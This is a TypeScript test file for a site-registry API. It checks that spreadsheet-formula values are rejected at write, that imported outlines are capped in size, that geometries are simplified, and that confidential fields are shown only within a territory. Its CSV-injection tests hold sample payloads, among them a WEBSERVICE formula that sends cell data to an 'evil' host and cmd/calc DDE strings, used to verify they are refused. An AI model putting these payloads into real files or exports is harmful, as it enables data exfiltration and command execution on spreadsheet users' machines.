/**
 * Issue 14, findings 6, 7 and confidentiality (8):
 * - text that a spreadsheet would run as a formula is refused at write (API, importer) with a
 *   400 naming the field, so no export ever carries one (the SITE-ECO CSV writes values raw);
 * - the importers cap outlines at the API's 200,000 positions;
 * - lists and OGC items carry simplified outlines by default, whole ones with geometry=full;
 * - confidential fields of an unpublished site reach admins and the staff and editors of its
 *   territory only.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { looksLikeFormula } from '../../api/src/shared/csv.ts';
import { MAX_POSITIONS } from '../../api/src/shared/geo.ts';
import { rect, siteBody } from '../fixtures/sites.ts';
import { type Client, startTestApp, type TestApp } from '../helpers/test-app.ts';
import { engineName } from '../helpers/test-db.ts';

let app: TestApp;
let admin: Client;
const GPSO = '200059889';
const OTHER = '200058014';

beforeAll(async () => {
  app = await startTestApp('empty');
  admin = await app.tokenClient('admin');
});
afterAll(async () => {
  await app?.close();
});

/** A closed ring of `n` positions around a small circle in Limay. */
function circle(n: number, lon = 1.75, lat = 48.99) {
  const ring: number[][] = [];
  for (let i = 0; i < n - 1; i++) {
    const t = (2 * Math.PI * i) / (n - 1);
    ring.push([lon + 0.003 * Math.cos(t), lat + 0.002 * Math.sin(t)]);
  }
  ring.push(ring[0]);
  return { type: 'Polygon', coordinates: [ring] };
}

const positions = (g: { coordinates: unknown }) => JSON.stringify(g.coordinates).split('],[').length;

async function upload(body: unknown) {
  const res = await admin.fetch('/api/import/sites-geojson', {
    method: 'POST',
    headers: { 'content-type': 'application/octet-stream' },
    body: JSON.stringify(body),
  });
  return { status: res.status, body: (await res.json()) as any };
}

describe(`spreadsheet formulas are refused at write (${engineName})`, () => {
  it('tells formulas from numbers and phone numbers', () => {
    for (const t of [
      '=WEBSERVICE("http://x")',
      '=1+1',
      '+HYPERLINK("x")',
      "-cmd|' /C calc'!A0",
      '@SUM(A1)',
      ' =A1',
    ])
      expect(looksLikeFormula(t), t).toBe(true);
    for (const t of ['+33 1 23 45 67 89', '-5 m² au nord', 'Zone = UX', 'a=b', '', '42'])
      expect(looksLikeFormula(t), t).toBe(false);
  });

  it('refuses a site named like a formula with a 400 naming the field', async () => {
    const r = await admin.send('POST', '/api/sites', siteBody({ name: '=WEBSERVICE("http://evil/?"&A1)' }));
    expect(r.status).toBe(400);
    expect(r.body.error.details[0].field).toBe('properties.name');
    expect(r.body.error.message).toMatch(/spreadsheet formula/);
    const ok = await admin.send('POST', '/api/sites', siteBody({ contactPhone: '+33 1 23 45 67 89' }));
    expect(ok.status).toBe(201);
    const patch = await admin.send('PATCH', `/api/sites/${ok.body.id}`, {
      properties: { description: '@SUM(1+1)*cmd|calc' },
    });
    expect(patch.status).toBe(400);
    expect(patch.body.error.details[0].field).toBe('properties.description');
  });

  it('refuses formulas in projects and imported rows too', async () => {
    const staff = await app.login('staff', { territories: [GPSO] });
    const p = await staff.send('POST', '/api/projects', {
      name: 'Projet =1',
      company: '+HYPERLINK("http://x","y")',
      needs: { surfaceHa: { min: 1 } },
    });
    expect(p.status).toBe(400);
    expect(p.body.error.details.map((d: { field: string }) => d.field)).toContain('company');
    const r = await upload({
      type: 'FeatureCollection',
      features: [
        {
          type: 'Feature',
          properties: { source: 'upload', sourceId: 'f1', name: '=cmd|x', communeInsee: '78335' },
          geometry: rect(1.77, 48.99),
        },
      ],
    });
    expect(r.status).toBe(422);
    expect(r.body.invalid[0].reason, JSON.stringify(r.body.invalid)).toMatch(
      /name: must not start like a spreadsheet formula/,
    );
    const csv = await app.anonymous.fetch('/api/sites.site-eco.csv');
    expect(await csv.text()).not.toMatch(/[,\n]"?[=@]/);
  });
});

describe(`outline sizes (${engineName})`, () => {
  it('caps imported outlines at the API limit', async () => {
    const big = circle(MAX_POSITIONS + 2);
    const r = await upload({
      type: 'FeatureCollection',
      features: [
        {
          type: 'Feature',
          properties: { source: 'upload', sourceId: 'huge', name: 'Trop de sommets', communeInsee: '78335' },
          geometry: big,
        },
      ],
    });
    expect(r.status).toBe(422);
    expect(r.body.invalid[0].reason).toMatch(/more than the limit of 200000/);
    const api = await admin.send('POST', '/api/sites', siteBody({ name: 'Trop' }, big));
    // Over the API's body limit before its position cap: 413 (or 400 under a bigger BODY_LIMIT).
    expect([400, 413]).toContain(api.status);
  });

  it('lists simplified outlines by default and whole ones with geometry=full', async () => {
    const made = await admin.send(
      'POST',
      '/api/sites',
      siteBody({ name: 'Cercle détaillé' }, circle(20_000)),
    );
    expect(made.status).toBe(201);
    const id = made.body.id;
    const list = await app.anonymous.get(`/api/sites?ids=${id}`);
    const full = await app.anonymous.get(`/api/sites?ids=${id}&geometry=full`);
    expect(positions(full.body.features[0].geometry)).toBe(20_000);
    const simplified = positions(list.body.features[0].geometry);
    expect(simplified).toBeLessThan(2_000);
    expect(simplified).toBeGreaterThan(50);
    const ogc = await app.anonymous.get(`/ogc/collections/sites/items?ids=${id}`);
    expect(positions(ogc.body.features[0].geometry)).toBe(simplified);
    const ogcFull = await app.anonymous.get(`/ogc/collections/sites/items?ids=${id}&geometry=full`);
    expect(positions(ogcFull.body.features[0].geometry)).toBe(20_000);
    // A single site, and downloads, are whole.
    expect(positions((await app.anonymous.get(`/api/sites/${id}`)).body.geometry)).toBe(20_000);
    const dl = await app.anonymous.get(`/api/sites.geojson?ids=${id}`);
    expect(positions(dl.body.features[0].geometry)).toBe(20_000);
    // Small outlines are never touched.
    const small = await app.anonymous.get('/api/sites?q=Parcelle');
    for (const f of small.body.features) expect(positions(f.geometry)).toBe(5);
    expect((await app.anonymous.get('/api/sites?geometry=huge')).status).toBe(400);
  });
});

describe(`confidential fields by territory (${engineName})`, () => {
  it('shows an unpublished site’s confidential fields to its territory’s staff and editors and to admins only', async () => {
    const made = await admin.send(
      'POST',
      '/api/sites',
      siteBody({ name: 'Projet discret', published: false, territorySiren: GPSO }, rect(1.78, 48.99)),
    );
    expect(made.status).toBe(201);
    const id = made.body.id;
    const pub = await admin.send(
      'POST',
      '/api/sites',
      siteBody({ name: 'Public', territorySiren: GPSO }, rect(1.79, 48.99)),
    );
    const readers = {
      admin,
      staffGpso: await app.tokenClient('staff', { territories: [GPSO] }),
      editorGpso: await app.tokenClient('editor', { territories: [GPSO] }),
      staffOther: await app.tokenClient('staff', { territories: [OTHER] }),
      editorOther: await app.tokenClient('editor', { territories: [OTHER] }),
    };
    for (const [who, c] of Object.entries(readers)) {
      const mayRead = !who.endsWith('Other');
      const one = await c.get(`/api/sites/${id}`);
      expect(one.status, who).toBe(200);
      expect(one.body.properties.published, who).toBe(false);
      expect(one.body.properties.name, who).toBe('Projet discret');
      if (mayRead) {
        expect(one.body.properties.ownerName, who).toBe('Propriétaire confidentiel SA');
        expect(one.body.properties.negotiatedPriceEurM2, who).toBe(42);
      } else {
        expect(one.body.properties, who).not.toHaveProperty('ownerName');
        expect(one.body.properties, who).not.toHaveProperty('negotiatedPriceEurM2');
      }
      const list = await c.get(`/api/sites?ids=${id},${pub.body.id}`);
      const hidden = list.body.features.find((f: { id: string }) => f.id === id);
      expect(hidden.properties.name, who).toBe('Projet discret');
      if (!mayRead) expect(hidden.properties, who).not.toHaveProperty('negotiatedPriceEurM2');
      const ogc = await c.get(`/ogc/collections/sites/items/${id}`);
      expect('negotiatedPriceEurM2' in ogc.body.properties, who).toBe(mayRead);
      // A published site's confidential fields stay visible to every signed-in reader.
      const shown = await c.get(`/api/sites/${pub.body.id}`);
      expect(shown.body.properties.negotiatedPriceEurM2, who).toBe(42);
    }
  });
});
